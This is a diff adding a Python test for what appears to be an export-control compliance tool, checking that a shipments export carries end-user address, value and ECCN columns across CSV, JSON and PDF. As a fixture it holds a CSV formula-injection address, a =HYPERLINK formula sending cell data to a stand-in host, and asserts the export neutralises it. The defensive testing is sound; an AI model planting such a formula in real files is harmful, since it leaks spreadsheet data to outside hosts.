@@ -399,3 +399,48 @@ def test_installed_base_detail_keeps_the_receipt_date_of_a_holding_that_moved(
     assert detail["h-move-1"]["installed_since"].startswith("2026-03-02")  # at its current site since the move
     assert detail["h-move-1"]["received"].startswith("2026-01-05")  # received before it moved
     assert detail["h-us-1"]["received"].startswith("2026-01-05")
+
+
+def test_semiannual_shipments_export_carries_end_user_address_and_value(
+        any_fleet: str, packs: PackRegistry, tmp_path: Path) -> None:
+    """§ 748.15(f)(1)(i): per export, reexport or transfer, the end user's name and address (A), the destination
+    (B), the quantity (C), the value (D) and the ECCN (E): every one a column of the shipments table, in the CSV,
+    the JSON and the PDF. A value or address never recorded is an empty cell (None in JSON), not 0."""
+    from agent import parties
+
+    address = "Hub71, Al Khatem Tower, Abu Dhabi Global Market Square, Abu Dhabi, UAE"
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    with session_scope(any_fleet) as s:
+        parties.add_party(s, "Gulf AI", "AE", address=address)  # an update: keeps the rest
+        parties.add_party(s, "Cedar Labs", "AE", address=evil)
+        caps.add_shipment(s, packs, day=date(2026, 6, 1), consignee="Gulf AI", destination="AE",
+                          chip_name="h100-sxm", count=16, via="licence", reference="D123456", value_usd=480000.0,
+                          actor="test")
+        caps.add_shipment(s, packs, day=date(2026, 6, 2), consignee="Cedar Labs", destination="AE",
+                          chip_name="h100-sxm", count=1, via="licence", value_usd=0, actor="test")
+    formats = ["csv", "json", "pdf"] if shutil.which("pdftotext") else ["csv", "json"]
+    m = _export(any_fleet, packs, "shipments", tmp_path / "out", formats)
+    doc = json.loads((tmp_path / "out" / _files(m, ".json")[0]).read_text())
+    table = doc["tables"]["shipments"]
+    for col in ("consignee", "consignee_address", "destination", "count", "value_usd", "eccn"):
+        assert col in table["columns"], col
+    got = [(r["consignee"], r["consignee_address"], r["count"], r["value_usd"], r["eccn"]) for r in table["rows"]]
+    assert got == [("Gulf AI", address, 64.0, None, "3A090.a"), ("Gulf AI", address, 100.0, None, "3A090.a"),
+                   ("Gulf AI", address, 16.0, 480000.0, "3A090.a"), ("Cedar Labs", evil, 1.0, 0.0, "3A090.a")]
+    assert doc["summary"]["value usd (recorded)"] == 480000.0
+    assert doc["summary"]["shipments without a recorded value"] == 2
+    assert any("no recorded value" in n for n in doc["notes"])
+    header, rows = _csv(tmp_path / "out" / next(n for n in _files(m, ".csv") if n.endswith("_shipments.csv")))
+    assert header == table["columns"]
+    by_id = {r[header.index("id")]: dict(zip(header, r, strict=True)) for r in rows}
+    first, worth, gift = (by_id[str(x["id"])] for x in (table["rows"][0], table["rows"][2], table["rows"][3]))
+    assert first["consignee_address"] == address and first["value_usd"] == ""
+    assert worth["value_usd"] == "480000.0" and gift["value_usd"] == "0.0"
+    assert gift["consignee_address"] == "'" + evil  # CSV injection: shown as text, never run
+    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r)
+    if "pdf" in formats:
+        pdf = tmp_path / "out" / _files(m, ".pdf")[0]
+        words = subprocess.run(["pdftotext", "-raw", str(pdf), "-"], capture_output=True, text=True,
+                               check=True).stdout
+        assert "consignee_address" in words and "value_usd" in words
+        assert "Khatem" in words and "480,000" in words
